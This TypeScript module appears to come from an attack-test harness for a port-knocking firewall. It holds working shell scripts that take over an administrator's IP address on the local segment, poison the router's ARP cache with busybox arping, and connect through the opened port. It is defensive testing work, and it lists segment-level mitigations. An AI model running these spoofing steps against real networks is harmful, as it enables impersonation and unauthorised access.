import { type Attack, givesWay, holds } from './attack.ts';

/**
 * Takes an address on the attacker's own segment: an ARP request in its name tells the next hop at once where it lives
 * now (the kernel overrides an entry for a request, and for an unasked reply only after a second). Prints `taken`, and
 * `connected` when a connection with that address opens; `elsewhere` when the address is not of this segment.
 */
const takeOver = `
address=$1 target=$2 port=$3
case $(ip -o route get "$address") in *' via '*) echo elsewhere; exit 0 ;; esac
hop=$(ip -o route get "$target" | sed -n 's/.* via \\([0-9.]*\\) .*/\\1/p')
hop=\${hop:-$target}
ip addr add "$address/32" dev eth0 || exit 1
trap 'ip addr del "$address/32" dev eth0' EXIT
busybox arping -q -f -c 1 -w 1 -I eth0 -s "$address" "$hop" && echo taken
for try in 1 2; do
  socat -u /dev/null "TCP4:$target:$port,bind=$address,connect-timeout=0.1" 2>/dev/null && echo connected && break
done
exit 0
`;

/** The rightful owner shows himself again, as his next packet to anybody new would. */
const giveBack = `
hop=$(ip -o route get "$2" | sed -n 's/.* via \\([0-9.]*\\) .*/\\1/p')
busybox arping -q -f -c 1 -w 1 -I eth0 -s "$1" "\${hop:-$2}"
exit 0
`;

const addressTakeover: Attack = {
  id: 'address-takeover',
  family: 'spoofing',
  title: 'the administrator’s address, taken over',
  tries: 'to go on with the address of somebody who has knocked, from beside him in the same segment',
  how: 'the attacker gives itself the administrator’s address after his knock, tells the router so by ARP, and connects',
  holding: 'nothing opens to the attacker under that address',
  inherent: {
    reason:
      'A filter knows an address, not who has it; the segment has to keep it (port security, DHCP snooping, `arp=reply-only`).',
  },
  run: async ({ system, context, openFor, openTo }) => {
    const { attacker, administrator } = system;
    const address = administrator.address ?? '';
    const target = await administrator.addressOf(system.target ?? context.router);
    await openFor(administrator);
    const [port] = await openTo(administrator);
    if (port === undefined) throw new Error('the administrator’s own knock did not open');
    const command = (script: string): string[] => ['sh', '-c', script, 'takeover', address, target, `${port}`];
    const { stdout, stderr } = await attacker.exec(command(takeOver));
    if (stdout.includes('elsewhere'))
      return { outcome: 'not applicable', evidence: 'attacker and administrator live in different segments' };
    await administrator.exec(command(giveBack));
    if (!stdout.includes('taken')) throw new Error(`the address could not be taken over: ${stderr}`);
    return stdout.includes('connected')
      ? givesWay(`${attacker.name} reaches port ${port} as ${address}`)
      : holds(`${attacker.name} does not reach port ${port} as ${address}`);
  },
};

export const takeovers: readonly Attack[] = [addressTakeover];
